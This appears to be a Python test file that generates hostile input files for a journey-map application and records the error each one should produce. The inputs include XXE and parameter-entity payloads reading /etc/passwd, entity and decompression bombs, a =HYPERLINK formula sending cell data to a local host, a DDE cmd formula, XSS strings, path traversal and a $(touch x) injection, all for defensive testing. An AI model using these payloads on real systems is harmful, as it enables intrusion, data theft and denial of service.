# SPDX-License-Identifier: GPL-3.0-or-later
"""Files that nobody should have to open, and what is to be said of each. CHECKLIST names the cases of each thing that is tried."""

import base64
import gzip
import random
import struct
import zlib

from hostile_case import (
    CUT_OFF, EMPTY, HEAD, LARGE_TEXT, LEFT_OUT, MAP, MEGA, NAMESPACE, NOT_HELD, NOT_UTF_8, NOT_XML, NO_DIMENSION,
    NO_DOCTYPE, TAIL, TOO_LARGE, TOO_LONG, TOO_MANY, TOO_MANY_NAMES, add, declaring, in_map, in_map_from, numbered,
    repeat, titled,
)
from hostile_tables import add_answers, add_carried, add_diagrams, add_tables


def add_entities():
    laughs = "".join(f'<!ENTITY l{i} "{"&l%d;" % (i - 1) * 10}">' for i in range(1, 10))
    add("entity-parameter-theft.journey", MAP,
        declaring('<!DOCTYPE j [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://127.0.0.1:9/x.dtd">'
                  "%d;%send;]>"), NO_DOCTYPE)
    add("entity-laughs-parameter.journey", MAP, declaring(f'<!DOCTYPE j [<!ENTITY l0 "ha">{laughs}]>', "&l9;"), NO_DOCTYPE)
    add("entity-quadratic-20-mb.journey", MAP,
        lambda: [b'<?xml version="1.0"?><!DOCTYPE j [<!ENTITY a "', *repeat(b"a", 10 * MEGA), b'">]>', HEAD, b"<title>",
                 *repeat(b"&a;", 9 * MEGA), b"</title>", TAIL], NO_DOCTYPE)
    add("doctype-after-20-mb-of-comments.journey", MAP,
        lambda: [b"<!--", *repeat(b"x", 20 * MEGA), b"-->\n<!DOCTYPE j>", HEAD, TAIL], NO_DOCTYPE)
    add("doctype-lower-case.journey", MAP, b"<!doctype j>" + titled("x"), NO_DOCTYPE)
    add("doctype-inside.journey", MAP, HEAD + b'<!DOCTYPE j [<!ENTITY a "b">]>' + TAIL, NO_DOCTYPE)
    add("doctype-in-comment.journey", MAP, b"<!-- <!DOCTYPE j> -->" + titled("x"), None, True)
    add("doctype-in-cdata.journey", MAP, in_map(b"<title><![CDATA[<!DOCTYPE j>]]></title>"), None, True)
    add("doctype-in-instruction.journey", MAP, b"<?x <!DOCTYPE j> ?>" + titled("x"), None, True)
    add("conditional-section.journey", MAP, HEAD + b"<![INCLUDE[<stage/>]]>" + TAIL, NO_DOCTYPE)
    add("xml-stylesheet.journey", MAP, b'<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>\n' + titled("x"), None, True)
    add("xinclude.journey", MAP,
        HEAD + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>' + TAIL,
        r":2: <xi:include> is not known to this version of Sojourn here; it is kept as it is\.$", True)
    add("schema-location.journey", MAP,
        f'<journey xmlns="{NAMESPACE}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{NAMESPACE} http://127.0.0.1:9/x.xsd" version="1.0" id="map"/>',
        r":1: The attribute xsi:schemaLocation is not known", True)


def add_bytes():
    whole = titled("Broadband")
    add("nothing.journey", MAP, b"", EMPTY)
    add("white-space-20-mb.journey", MAP, lambda: repeat(b" \n", 10 * MEGA), EMPTY)
    add("all-nul-20-mb.journey", MAP, lambda: repeat(b"\0", 20 * MEGA), r":1: There is a zero byte, so this is not a text file\.$")
    add("cut-off-in-tag.journey", MAP, whole[: whole.index(b"<stage") + 9], r":[0-9]+: ")
    add("cut-off-in-text.journey", MAP, whole[: whole.index(b"<stage") + 25], CUT_OFF)
    add("nul-at-end.journey", MAP, whole + b"\0", r":[0-9]+: There is a zero byte, so this is not a text file\.$")
    add("overlong.journey", MAP, titled(b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf"), NOT_UTF_8)
    add("surrogate.journey", MAP, titled(b"\xed\xa0\x80"), NOT_UTF_8)
    add("surrogate-pair.journey", MAP, titled(b"\xed\xa0\xbd\xed\xb8\x80"), NOT_UTF_8)
    add("beyond-unicode.journey", MAP, titled(b"\xf4\x90\x80\x80"), NOT_UTF_8)
    add("half-a-character.journey", MAP, titled("Grün").replace("ü".encode(), b"\xc3"), NOT_UTF_8)
    for number in ["0", "27", "x1B", "xD800", "xFFFE", "x110000", "99999999999999999999"]:
        add(f"reference-{number}.journey", MAP, titled(f"a&#{number};b"), r":[0-9]+: ")
    add("reference-huge.journey", MAP, in_map(b"<title>&#", (b"9", 20 * MEGA), b";</title>"), r":[0-9]+: ")
    add("escape.journey", MAP, titled("a\033[31mb"), NOT_HELD)
    add("noncharacter.journey", MAP, titled("a\ufffeb"), NOT_HELD)
    add("says-utf-16.journey", MAP, b'<?xml version="1.0" encoding="UTF-16"?>' + whole, r":1: The file says .*“UTF-16”")
    add("says-escape.journey", MAP, b'<?xml version="1.0" encoding="\033]0;x\007\xc2\x9b31m"?>' + whole, r":1: The file says ")
    add("says-20-mb.journey", MAP, lambda: [b'<?xml version="1.0" encoding="', *repeat(b"x", 20 * MEGA)], r":1: The file says ")
    add("utf-16.journey", MAP, whole.decode().encode("utf-16"), r":1: The file is written in UTF-16\.")
    add("utf-16-without-mark.journey", MAP, whole.decode().encode("utf-16-be"), r":1: The file is written in UTF-16\.")
    add("utf-32.journey", MAP, whole.decode().encode("utf-32"), r":1: ")
    add("utf-7.journey", MAP, b'<?xml version="1.0" encoding="UTF-7"?>\n+ADw-journey+AD4-', r":1: The file says .*“UTF-7”")
    add("ebcdic.journey", MAP, whole.decode().encode("cp500"), NOT_UTF_8)
    add("wrong-mark.journey", MAP, b"\xfe\xff" + whole, r":1: The file is written in UTF-16\.")
    add("two-marks.journey", MAP, b"\xef\xbb\xbf\xef\xbb\xbf" + whole, NOT_XML)
    add("one-mark.journey", MAP, b"\xef\xbb\xbf" + whole, None, True)
    add("iso-8859-1.journey", MAP, b'<?xml version="1.0" encoding="ISO-8859-1"?>' + whole, r":1: The file says .*“ISO-8859-1”")
    add("gzip-in-disguise.journey", MAP, gzip.compress(whole, mtime=0), r":1: The file is compressed\. Unpack it first\.$")
    add("gzip-bomb.journey", MAP, gzip.compress(bytes(20 * MEGA), mtime=0), r":1: The file is compressed\. Unpack it first\.$")
    add("zip.journey", MAP, b"PK\3\4" + bytes(200), r":1: ")
    add("random-bytes.journey", MAP, random.Random(1).randbytes(MEGA), r":[0-9]+: ")
    add("line-ends-20-mb.journey", MAP, lambda: [HEAD, *repeat(b"\r\n", 10 * MEGA)], CUT_OFF)
    add("merge-conflict.journey", MAP, whole.replace(b"<stage", b"<<<<<<< HEAD\n<stage", 1), r":[0-9]+: There are two versions")


def add_large():
    add("larger-than-64-mb.journey", MAP, in_map(b"<title>", (b"x", 64 * MEGA), b"</title>"), TOO_LARGE)
    add("depth-100000.journey", MAP, in_map((b"<d>", 100000)), r":2: More than 64 elements stand inside each other\.$")
    add("depth-65.journey", MAP, in_map((b"<d>", 65), (b"</d>", 65)), r":2: More than 64 elements stand inside each other\.$")
    add("attribute-100-mb.journey", MAP, in_map(b'<stage id="s" colour="', (b"x", 100 * MEGA), b'"/>'), TOO_LARGE)
    add("attribute-20-mb.journey", MAP, in_map(b'<stage id="s" colour="', (b"x", 20 * MEGA), b'"/>'), TOO_LONG)
    add("attribute-9-mb.journey", MAP, in_map(b'<stage id="s" colour="', (b"x", 9 * MEGA), b'"/>'), LARGE_TEXT)
    add("attribute-of-references.journey", MAP, in_map(b'<stage id="s" colour="', (b"&#97;", 4 * MEGA), b'"/>'), r":2: ")
    add("attribute-of-less.journey", MAP, in_map(b'<stage id="s" colour="', (b"&lt;", 2 * MEGA), b'"/>'), LARGE_TEXT)
    add("attributes-50000.journey", MAP, in_map_from(b'<stage id="s"', numbered(b' a%=""', 50000), b"/>"),
        r":2: An element has more than 64 attributes\.$")
    add("attributes-64-each.journey", MAP,
        in_map_from(b"", numbered(b"<x " + b"".join(b'b%d="%%" ' % i for i in range(64)) + b"/>\n", 60000)), r":2: <x> is not known", True, True)
    add("namespaces-50000.journey", MAP, in_map_from(b'<stage id="s"', numbered(b' xmlns:a%="u"', 50000), b"/>"),
        r":2: An element has more than 64 attributes\.$")
    add("siblings-million.journey", MAP, in_map((b"<stage/>", 1000000)), TOO_MANY)
    add("siblings-unknown-million.journey", MAP, in_map((b"<s/>", 1000000)), TOO_MANY)
    add("siblings-all-unlike.journey", MAP, in_map_from(b"", numbered(b"<u%/>", 199999)), TOO_MANY_NAMES)
    add("siblings-foreign.journey", MAP, in_map_from(b"", numbered(b'<u:u xmlns:u="urn:%"/>', 199999)), TOO_MANY_NAMES)
    add("siblings-rather-unlike.journey", MAP, in_map_from(b"", lambda: list(numbered(b"<u%/>", 9000)()) * 20),
        r":2: <u0> is not known", True, True)
    add("name-50-kb.journey", MAP, in_map(b"<", (b"n", 50000), b"/>"), r":2: A name is longer than 256 bytes\.$")
    add("name-20-mb.journey", MAP, in_map(b"<", (b"n", 20 * MEGA), b"/>"), r":2: ")
    add("name-of-attribute.journey", MAP, in_map(b"<stage ", (b"n", 50000), b'="x"/>'), r":2: A name is longer than 256 bytes\.$")
    add("name-of-prefix.journey", MAP, in_map(b"<stage xmlns:", (b"n", 50000), b'="x"/>'), r":2: ", True)
    add("name-of-instruction.journey", MAP, in_map(b"<?", (b"n", 2 * MEGA), b" x?>"), r":2: ")
    add("name-of-entity.journey", MAP, in_map(b"<title>&", (b"n", 20 * MEGA), b";</title>"), r":2: ")
    add("names-without-end.journey", MAP, in_map(b"<stage ", (b"a ", 20 * MEGA)), r":2: ")
    add("quotes-without-end.journey", MAP, in_map(b"<stage ", (b'"\' ', 5 * MEGA)), r":2: An element has more than 64 attributes\.$")
    add("comments-million.journey", MAP, in_map((b"<!---->", 1000000)),
        r":2: There are more than 50000 comments and unknown attributes\.$")
    add("comment-20-mb.journey", MAP, in_map(b"<!--", (b"-x", 10 * MEGA), b"-->"), r":2: ")
    add("comment-without-end.journey", MAP, in_map(b"<!--", (b"x", 20 * MEGA)), r":[0-9]+: ")
    add("instructions-million.journey", MAP, in_map((b"<?a?>", 1000000)),
        r":2: There are more than 50000 comments and unknown attributes\.$")
    add("text-20-mb.journey", MAP, in_map(b"<title>", (b"x", 20 * MEGA), b"</title>"), LARGE_TEXT)
    add("text-of-references.journey", MAP, in_map(b"<title>", (b"&#97;", 4 * MEGA), b"</title>"), LARGE_TEXT)
    add("text-of-cdata.journey", MAP, in_map(b"<title>", (b"<![CDATA[x]]>", 4 * MEGA), b"</title>"), LARGE_TEXT)
    add("text-of-comments.journey", MAP, in_map(b"<title>", (b"x <!---->", 10000), b"</title>"), None, True)
    add("text-unknown-41-mb.journey", MAP, in_map(b"<thing>", (b"x", 41 * MEGA), b"</thing>"), r":2: A text is larger than 40 MB\.$")
    add("text-unknown-39-mb.journey", MAP, in_map(b"<thing>", (b"&amp;&lt;", 4 * MEGA), b"</thing>"), r":2: <thing> is not known", True)
    add("cdata-without-end.journey", MAP, in_map(b"<title><![CDATA[", (b"]", 20 * MEGA)), r":[0-9]+: ")
    add("blank-between-20-mb.journey", MAP, in_map((b" \n\t\n", 5 * MEGA)), None, True)
    add("blank-in-unknown-30-mb.journey", MAP, in_map(b"<x>", (b"<y> </y>", 100000), b"</x>"), r":2: <x> is not known", True)
    add("authors-190000.journey", MAP, in_map((b"<author>A</author>", 190000)), None, True, True)
    add("newlines-million.journey", MAP, titled("&#10;" * 1000), None, True)


def add_structure():
    add("attribute-twice.journey", MAP, in_map(b'<stage id="a" colour="x" colour="y"/>'),
        r":2: An element has the same attribute twice\.$")
    add("attribute-twice-by-prefix.journey", MAP, in_map(b'<x xmlns:a="u" xmlns:b="u" a:c="1" b:c="2"/>'),
        r":2: An element has the same attribute twice\.$")
    add("id-200000-times.journey", MAP, in_map((b'<stage id="s"/>\n', 199999)), r":3: The id “s” is there a second time", True, True)
    add("id-60-kb.journey", MAP, in_map(b'<stage id="', (b"s", 60000), b'"/>'), r":2: “s+…” cannot be an id", True)
    add("id-markup.journey", MAP, in_map(b'<stage id="a&#10;b&lt;&#x9b;"/>'), r":2: “.*” cannot be an id", True)
    add("reference-dangling-200000.journey", MAP,
        in_map(b'<opportunity id="o" touchpoints="', (b"t ", 200000), b'"/>'), r":2: “touchpoints” of <opportunity> names “t”", True)
    add("reference-too-many.journey", MAP, in_map(b'<opportunity id="o" touchpoints="', (b"t ", 300000), b'"/>'),
        r":2: There are more than 200000 references in lists\.$")
    add("reference-60-kb.journey", MAP, in_map(b'<opportunity id="o" touchpoints="', (b"t", 60000), b'"/>'),
        r":2: “touchpoints” of <opportunity> names “t+…”, which is not in the map; it is left out\.$", True)
    add("reference-cycle.journey", MAP,
        in_map(b'<opportunity id="a" touchpoints="b"/><metric id="b" touchpoints="a"/>'), r":2: .* it is left out\.$", True)
    add("reference-itself.journey", MAP, in_map(b'<opportunity id="a" touchpoints="a a a"/>'), r":2: .* it is left out\.$", True)
    add("wrong-namespace.journey", MAP, titled("x").replace(NAMESPACE.encode(), b"urn:example"), r":1: This is not a map: ")
    add("namespace-60-kb.journey", MAP, titled("x").replace(NAMESPACE.encode(), b"u" * 60000), r":1: This is not a map: ")
    add("namespace-escaped.journey", MAP, titled("x").replace(b"urn:sojourn", b"urn&#58;sojourn"), None, True)
    add("foreign-root.journey", MAP, b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        r":1: This is not a map: it begins with <html>")
    add("foreign-root-deceptive.journey", MAP, "<a\u0301\u200f/>".encode(), r":1: ")
    add("newer-major.journey", MAP, titled("x").replace(b'"1.0"', b'"9999.9999"'), r":1: The map was made by a newer version", True)
    add("unknown-everywhere.journey", MAP,
        b'<?a b?><!--c--><journey xmlns="urn:sojourn:journey:1" version="1.9" id="m" zz="1"><zz><zz yy="2">3</zz></zz>'
        b'<title zz="1">T<zz/></title><stage id="s" zz="1"><zz/><touchpoint id="t" zz="1"><zz/><title>t</title>'
        b'<emotion id="e" zz="1"><zz/></emotion></touchpoint></stage><zz/></journey><!--d--><?e f?>',
        r":1: <zz> is not known to this version of Sojourn here; it is kept as it is\.$", True)
    for name, value in [("nan", "nan"), ("inf", "inf"), ("1e999", "1e999"), ("0x10", "0x10"), ("comma", "1,5"),
                        ("arabic", "٣"), ("thousand", "1 000"), ("dots", "1.2.3"), ("digits", "9" * 100000),
                        ("fraction", "0." + "1" * 100000)]:
        add(f"score-{name}.journey", MAP, titled("x").replace(b'actual="1"', f'actual="{value}"'.encode()),
            r":2: “actual” of <score> is “.*”, but has to be a number such as 3 or 2\.5\.$")
    add("score-minus-0.journey", MAP, titled("x").replace(b'actual="1"', b'actual="-0"'),
        r":2: “actual” of <score> is 0, outside of the map's scale of 1 to 5\.$", True)
    add("score-tiny.journey", MAP, titled("x").replace(b'actual="1"', b'actual="1e-400"'), r":2: ", True)
    for value in ["9223372036854775808", "-1", "99999999999999999999999", "1e3", "2147483648"]:
        add(f"count-{value}.journey", MAP, titled("x").replace(b'actual="1"', f'actual="1" n="{value}"'.encode()),
            r":2: “n” of <score> is “.*”, but has to be ")
    add("scale-huge.journey", MAP, titled("x").replace(b'id="map"', b'id="map" scale-low="0" scale-high="2000000000"'),
        r":1: “scale-high” of <journey> is “2000000000”, but has to be between 0 and 1000\.$")
    add("year-99999.journey", MAP, in_map(b'<feedback id="f" date="99999-12-31"/>'), r":2: “date” of <feedback> is “99999-12-31”")


def add_full():
    """As many of one kind as may be, for what compares each with each."""
    scored = b'<score id="s%" importance="1" expected="5" actual="1"/>'
    add("full-scores-at-one.journey", MAP,
        in_map_from(b'<dimension id="d"/><stage id="s"><touchpoint id="t">',
                    numbered(b'<score id="x%" dimension="d" actual="1"/>\n', 190000), b"</touchpoint></stage>"),
        r":3: The touchpoint has a second score on this dimension", True, True)
    add("full-emotions-at-one.journey", MAP,
        in_map_from(b'<persona id="p"/><stage id="s"><touchpoint id="t">', numbered(b'<emotion id="x%" persona="p"/>\n', 190000),
                    b"</touchpoint></stage>"), r":3: The persona has a second emotion at this touchpoint", True, True)
    add("full-notes-in-no-lane.journey", MAP,
        in_map_from(b'<stage id="s"><touchpoint id="t">', numbered(b'<note id="x%"/>\n', 190000), b"</touchpoint></stage>"),
        r":2: This note is in no lane\.$", True, True)
    add("full-dimensions.journey", MAP,
        in_map_from(b"", lambda: [*numbered(b'<dimension id="d%"/>', 90000)(), b'<stage id="s">',
                                  *numbered(b'<touchpoint id="t%"/>', 90000)()], b"</stage>"), None, True, True)
    add("full-competitors.journey", MAP,
        in_map_from(b"", lambda: [b'<stage id="s">', *numbered(b'<touchpoint id="t%">' + scored + b"</touchpoint>", 60000)(),
                                  b"</stage>", *numbered(b'<competitor id="c%"/>', 60000)()]), NO_DIMENSION, True, True)
    add("full-personas.journey", MAP, in_map_from(b"", numbered(b'<persona id="p%"/>', 199000)), None, True, True)
    add("full-lanes.journey", MAP, in_map_from(b"", numbered(b'<lane id="l%" kind="custom"/>', 199000)), None, True, True)
    add("full-stages.journey", MAP, in_map_from(b"", numbered(b'<stage id="s%"/>', 199000)), None, True, True)
    add("full-opportunities.journey", MAP,
        in_map_from(b'<stage id="s"><touchpoint id="t"/></stage>', numbered(b'<opportunity id="o%" touchpoints="t"/>', 190000)),
        None, True, True)
    add("full-ratings.journey", MAP,
        in_map_from(b'<stage id="s"><touchpoint id="t"/></stage><competitor id="c">',
                    numbered(b'<rating id="r%" touchpoint="t" actual="3"/>', 190000), b"</competitor>"), NO_DIMENSION, True, True)
    add("full-ratings-of-nothing.journey", MAP,
        in_map_from(b'<competitor id="c">', numbered(b'<rating id="r%" actual="3"/>\n', 190000), b"</competitor>"),
        r":2: This <rating> belongs to no <touchpoint>; it is left out\.$", True, True)


def add_texts():
    texts = {
        "bidi-override": "a\u202egnp.exe",
        "bidi-isolate": "a\u2066b\u2067c",
        "right-to-left-mark": "a\u200fb\u061cc",
        "combining-10000": "Z" + "\u0335" * 10000,
        "combining-mixed": "".join(chr(0x300 + i % 0x60) for i in range(10000)),
        "pango-markup": "&lt;span size='999999'&gt;&lt;b&gt;x&lt;/span&gt;",
        "format": "%n%s%n%s%1000000d%p",
        "formula": "=HYPERLINK(\"http://127.0.0.1:9/?\"&amp;A1)",
        "formula-dde": "=cmd|' /C calc'!A0",
        "formula-full-width": "＝1+1",
        "c1-controls": "a\u009b31mb\u009d0;x\u009c",
        "delete": "a\u007fb",
        "line-separator": "a\u2028b\u2029c",
        "zero-width": "\u200b\u200c\u200d\ufeff",
        "interlinear": "\ufff9a\ufffab\ufffb",
        "tag-characters": "a" + "".join(chr(0xE0041 + i) for i in range(20)),
        "emoji-joined": "\U0001F468\u200D\U0001F469\u200D\U0001F467" * 300,
        "link-up": "../../../../etc/passwd",
        "link-file": "file:///etc/passwd",
        "link-script": "javascript:alert(1)",
        "html": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
        "cdata-end": "a]]&gt;b",
        "quotes": "'\"`$(touch x)\\",
        "word-20000": "x" * 20000,
        "arabic-20000": "\u0644\u0627" * 10000,
        "han-10000": "旅" * 10000,
        "blank": "&#10;&#9; &#10;",
        "variation": "a" + "\ufe0f" * 5000,
        "hangul": "\u1100" * 10000,
        "indic": "\u0915\u094d" * 5000,
    }
    for name, text in texts.items():
        add(f"title-{name}.journey", MAP, titled(text), None, True)


def png(width, height, data, *chunks, depth=8, colours=2):
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0)
    return b"".join([b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", header), *(chunk(*c) for c in chunks), chunk(b"IDAT", data),
                     chunk(b"IEND", b"")])


def zeros(n):
    """A zlib stream of n zeros, made in little memory."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(bytes(MEGA)) for _ in range(n // MEGA)]
    return b"".join([*parts, packer.compress(bytes(n % MEGA)), packer.flush()])


def jpeg(width, height, scans=1, segments=b"", components=3, marker=0xC2):
    """A JPEG whose tables are small and whose scans hold nothing."""
    frame = struct.pack(">BHHB", 8, height, width, components) + b"".join(bytes([i + 1, 0x11, 0]) for i in range(components))
    quantisation = b"\0" + b"\1" * 64
    huffman = b"\0" + bytes([1] + [0] * 15) + b"\0" + b"\x10" + bytes([1] + [0] * 15) + b"\0"

    def segment(kind, content):
        return bytes([0xFF, kind]) + struct.pack(">H", len(content) + 2) + content

    scan = segment(0xDA, b"\1\1\0\0\0\0") + b"\0"
    return (b"\xff\xd8" + segments + segment(0xDB, quantisation) + segment(0xC4, huffman) + segment(marker, frame)
            + scan * scans + b"\xff\xd9")


def with_picture(picture, kind="image/png"):
    text = base64.b64encode(picture) if isinstance(picture, bytes) else picture.encode()
    whole = titled("x")
    return whole.replace(b"<name>", f'<name>'.encode(), 1).replace(
        b"</name>", f'</name><picture type="{kind}">'.encode() + text + b"</picture>", 1)


def add_picture(name, picture, says=None, opens=True, kind="image/png"):
    add(f"picture-{name}.journey", MAP, lambda: [with_picture(picture() if callable(picture) else picture, kind)], says, opens)


def add_pictures():
    row = zlib.compress(bytes(4 * 4 * 4))
    exif = b"\xff\xe1\x00\x22Exif\0\0II*\0\xff\xff\xff\xff" + bytes(18)
    many = r":2: A picture has [0-9]+ × [0-9]+ pixels; 25 million are accepted\.$"
    add_picture("60000", png(60000, 60000, row), many, False)
    add_picture("wide", png(0x7FFFFFFF, 1, row), many, False)
    add_picture("wider-than-may-be", png(0xFFFFFFFF, 1, row), LEFT_OUT)
    add_picture("no-extent", png(0, 0, row), LEFT_OUT)
    add_picture("25-million-of-zeros", lambda: png(5000, 5000, zeros(5000 * 15001)))
    add_picture("header-lies-small", lambda: png(4, 4, zeros(20 * MEGA)))
    add_picture("header-lies-large", png(5000, 5000, row))
    add_picture("thin", lambda: png(1, 25000000, zeros(100 * MEGA)))
    add_picture("16-bit", lambda: png(4000, 4000, zeros(4000 * 32001), depth=16, colours=6))
    add_picture("text-bomb", lambda: png(4, 4, row, (b"zTXt", b"a\0\0" + zeros(100 * MEGA)), (b"iTXt", b"a\0\1\0\0\0" + zeros(20 * MEGA))))
    add_picture("profile-bomb", lambda: png(4, 4, row, (b"iCCP", b"a\0\0" + zeros(100 * MEGA))))
    add_picture("chunks-100000", lambda: png(4, 4, row, *[(b"tEXt", b"a\0b")] * 100000))
    long_part = b"\x62\x79\x74\x65tEXt" + b"a\0b"
    add_picture("chunk-lies", png(4, 4, row)[:33] + long_part + png(4, 4, row)[33:])
    add_picture("chunk-unknown", png(4, 4, row, (b"ABCD", b"")))
    add_picture("palette-missing", png(4, 4, row, colours=3))
    add_picture("depth-lies", png(4, 4, row, depth=7, colours=5))
    add_picture("head-only", png(4, 4, row)[:33])
    add_picture("cut-off", png(4, 4, row)[:50])
    add_picture("jpeg-scans", lambda: jpeg(5000, 5000, 20000), kind="image/jpeg")
    add_picture("jpeg-50-scans", lambda: jpeg(5000, 5000, 50), kind="image/jpeg")
    add_picture("jpeg-sequential", jpeg(5000, 5000, marker=0xC0), kind="image/jpeg")
    add_picture("jpeg-lossless", jpeg(50, 50, marker=0xC3), kind="image/jpeg")
    add_picture("jpeg-arithmetic", jpeg(5000, 5000, 9, marker=0xCA), kind="image/jpeg")
    add_picture("jpeg-65535", jpeg(65535, 65535), many, False, "image/jpeg")
    add_picture("jpeg-thin", jpeg(1, 65535), kind="image/jpeg")
    add_picture("jpeg-exif-astray", jpeg(8, 8, segments=exif), kind="image/jpeg")
    add_picture("jpeg-255-components", jpeg(8, 8, components=255), kind="image/jpeg")
    add_picture("jpeg-no-components", jpeg(8, 8, components=0), kind="image/jpeg")
    add_picture("jpeg-fill", lambda: b"\xff\xd8" + b"\xff" * (20 * MEGA), LEFT_OUT, kind="image/jpeg")
    add_picture("jpeg-segments", lambda: b"\xff\xd8" + b"\xff\xe0\0\2" * (5 * MEGA), LEFT_OUT, kind="image/jpeg")
    add_picture("svg-itself", b'<svg xmlns="http://www.w3.org/2000/svg"><use id="a" href="#a"/></svg>', LEFT_OUT)
    add_picture("svg-file-link", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>', LEFT_OUT)
    add_picture("svg-by-type", b'<svg xmlns="http://www.w3.org/2000/svg"><use id="a" href="#a"/></svg>',
                r":2: <picture> is not known to this version", True, "image/svg+xml")
    add_picture("svg-gzip", gzip.compress(b"<svg/>", mtime=0), LEFT_OUT)
    add_picture("gif", b"GIF89a\xff\xff\xff\xff\0\0\0", LEFT_OUT)
    add_picture("not-base64", "not base64!", LEFT_OUT)
    add_picture("base64-padding", "=" * 100000, LEFT_OUT)
    add_picture("type-lies", png(4, 4, row), None, True, "image/jpeg")
    add("picture-endless-base64.journey", MAP,
        in_map(b'<persona id="p"><picture type="image/png">', (b"AAAA", 11 * MEGA)), r":[0-9]+: A picture takes more than 40 MB\.$")
    add("picture-blank-base64.journey", MAP,
        in_map(b'<persona id="p"><picture type="image/png">', (b" ", 41 * MEGA), b"</picture></persona>"),
        r":2: A picture takes more than 40 MB\.$")
    head = base64.b64encode(png(4900, 4900, row))
    person = b'<persona id="p%"><picture type="image/png">' + head + b"</picture></persona>"
    add("pictures-together.journey", MAP, in_map_from(b"", numbered(person, 3)),
        r":2: All pictures together take more than 200 MB of memory\.$")
    small = base64.b64encode(png(16, 16, zeros(16 * 49)))
    person = b'<persona id="p%"><picture type="image/png">' + small + b"</picture></persona>"
    add("pictures-100000.journey", MAP, in_map_from(b"", numbered(person, 99000)), None, True, True)


for _add in [add_entities, add_bytes, add_large, add_structure, add_full, add_texts, add_pictures, add_carried, add_tables, add_answers,
             add_diagrams]:
    _add()

# What the project promises to try, and where that is: names of cases here, or of files in tests/invalid/.
CHECKLIST = {
    "external entity to a file and to http": ["entity-to-file", "entity-to-http"],
    "parameter-entity theft": ["parameter-entity", "entity-parameter-theft"],
    "external DTD": ["external-dtd"],
    "billion laughs": ["billion-laughs", "entity-laughs-parameter"],
    "quadratic entities": ["quadratic-entities", "entity-quadratic-20-mb"],
    "entity in an attribute": ["entity-in-attribute"],
    "recursive entity": ["recursive-entity"],
    "XInclude": ["xinclude"],
    "xml-stylesheet": ["xml-stylesheet"],
    "schemaLocation": ["schema-location"],
    "empty": ["nothing"],
    "white space only": ["white-space-20-mb"],
    "all NUL": ["all-nul-20-mb"],
    "cut off": ["cut-off-in-tag", "cut-off-in-text"],
    "NUL inside text": ["zero-in-text"],
    "overlong UTF-8": ["overlong"],
    "lone surrogate": ["surrogate"],
    "&#0; &#27;": ["reference-0", "reference-27"],
    "says UTF-16, is not": ["says-utf-16"],
    "UTF-7": ["utf-7"],
    "wrong BOM": ["wrong-mark"],
    "ISO-8859-1": ["iso-8859-1"],
    "100,000 levels deep": ["depth-100000"],
    "100 MB attribute": ["attribute-100-mb"],
    "50,000 attributes": ["attributes-50000"],
    "a million siblings": ["siblings-million"],
    "50 kB name": ["name-50-kb"],
    "an attribute twice": ["attribute-twice"],
    "an id twice": ["id-200000-times", "repair-id-twice"],
    "dangling and cyclic references": ["reference-dangling-200000", "reference-cycle"],
    "wrong namespace": ["wrong-namespace"],
    "foreign root": ["foreign-root"],
    "scores nan, inf, 1e999, -0, 0x10, 1,5": ["score-nan", "score-inf", "score-1e999", "score-minus-0", "score-0x10", "score-comma"],
    "counts 2^63, -1": ["count-9223372036854775808", "count--1"],
    "year 99999": ["year-99999"],
    "newer major": ["newer-major"],
    "unknown elements everywhere": ["unknown-everywhere"],
    "merge-conflict markers": ["merge-conflict"],
    "PNG of 60,000 × 60,000": ["picture-60000"],
    "PNG whose header lies": ["picture-header-lies-small", "picture-header-lies-large"],
    "SVG that uses itself": ["picture-svg-itself"],
    "SVG with a file: link": ["picture-svg-file-link"],
    "endless base64": ["picture-endless-base64"],
    "gzip in disguise": ["gzip-in-disguise"],
    "link ../../ and file://": ["title-link-up", "title-link-file"],
    "bidi override in a title": ["title-bidi-override"],
    "10,000 combining marks": ["title-combining-10000"],
    "Pango markup in a title": ["title-pango-markup"],
    "%n%s": ["title-format"],
    "a card =HYPERLINK(…)": ["title-formula"],
    "ESC in a title": ["escape"],
}
